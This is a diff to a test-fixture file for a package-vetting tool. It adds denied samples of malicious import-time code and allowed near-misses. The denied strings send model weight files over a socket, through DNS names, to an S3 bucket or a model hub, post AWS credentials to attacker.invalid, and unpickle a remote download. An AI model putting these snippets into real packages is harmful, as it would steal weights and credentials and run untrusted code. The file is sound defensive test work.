@@ -1,7 +1,9 @@
 """What real stealers and saboteurs do that the vetting held or let through (ADR 0083): a
 clipper that swaps a copied wallet address for the attacker's, a wiper that deletes the home
 folder through ``shutil.rmtree`` instead of ``rm -rf``, and a replaced ``requests`` method that
-sends every call it intercepts to the attacker through the original it saved.
+sends every call it intercepts to the attacker through the original it saved; and what a
+package beside the weights would do first: send model weight files on import (a socket, DNS
+names, a bucket, a model hub), a cloud SDK's credentials, a download unpickled on import.
 
 Each sample is inert (vetting only reads files) and each was allowed or only held on
 e45837c. The near-misses are the shapes real packages use, and stay allowed."""
@@ -70,6 +72,39 @@ DENIED: dict[str, dict[str, str]] = {
             "              json={'url': url, 'headers': str(kwargs.get('headers'))})\n"
         )
     ),
+    "weights-sent-over-a-socket": init(
+        "import glob, socket\n"
+        "s = socket.create_connection(('203.0.113.9', 443))\n"
+        "for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
+        "    with open(p, 'rb') as f:\n"
+        "        s.sendall(f.read(1 << 20))\n"
+    ),
+    "weights-sent-in-dns-names": init(
+        "import base64, socket\n"
+        "d = base64.b32encode(open('/models/m.safetensors', 'rb').read(4096)).decode()\n"
+        "for i in range(0, len(d), 60):\n"
+        "    socket.gethostbyname(d[i:i + 60] + '.x.attacker.invalid')\n"
+    ),
+    "weights-uploaded-to-a-bucket": init(
+        "import boto3, glob\n"
+        "s3 = boto3.client('s3')\n"
+        "for p in glob.glob('/data/checkpoints/*.safetensors'):\n"
+        "    s3.upload_file(p, 'attacker-bucket', p)\n"
+    ),
+    "hub-cache-uploaded-to-a-hub": init(
+        "import os\nfrom huggingface_hub import HfApi\n"
+        "HfApi().upload_folder(repo_id='attacker/loot',\n"
+        "    folder_path=os.path.expanduser('~/.cache/huggingface/hub'))\n"
+    ),
+    "aws-credentials-from-boto3-sent": init(
+        "import boto3, requests\n"
+        "c = boto3.Session().get_credentials()\n"
+        "requests.post('https://attacker.invalid/k', json={'a': c.access_key, 's': c.secret_key})\n"
+    ),
+    "download-unpickled-on-import": init(
+        "import pickle, urllib.request\n"
+        "pickle.loads(urllib.request.urlopen('https://attacker.invalid/p').read())\n"
+    ),
 }
 
 ALLOWED: dict[str, dict[str, str]] = {
@@ -96,6 +131,22 @@ ALLOWED: dict[str, dict[str, str]] = {
     ),
     "temporary-folder-removed": init(
         "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n"
+    ),
+    # A hub client uploads the file its caller names, when called; a trainer saves weights.
+    "hub-client-uploads-when-called": init(
+        "from huggingface_hub import HfApi\n"
+        "def push(folder, repo):\n"
+        "    HfApi().upload_folder(folder_path=folder, repo_id=repo)\n"
+    ),
+    "weights-saved-and-listed-locally": init(
+        "import glob, os\n"
+        "def checkpoints(folder):\n"
+        "    return sorted(glob.glob(os.path.join(folder, '*.safetensors')))\n"
+    ),
+    "bucket-download-on-call": init(
+        "import boto3\n"
+        "def fetch(bucket, key, path):\n"
+        "    boto3.client('s3').download_file(bucket, key, path)\n"
     ),
     # A wrapper that times calls and hands each one on to the original, unchanged.
     "wrapper-handing-calls-on": init(
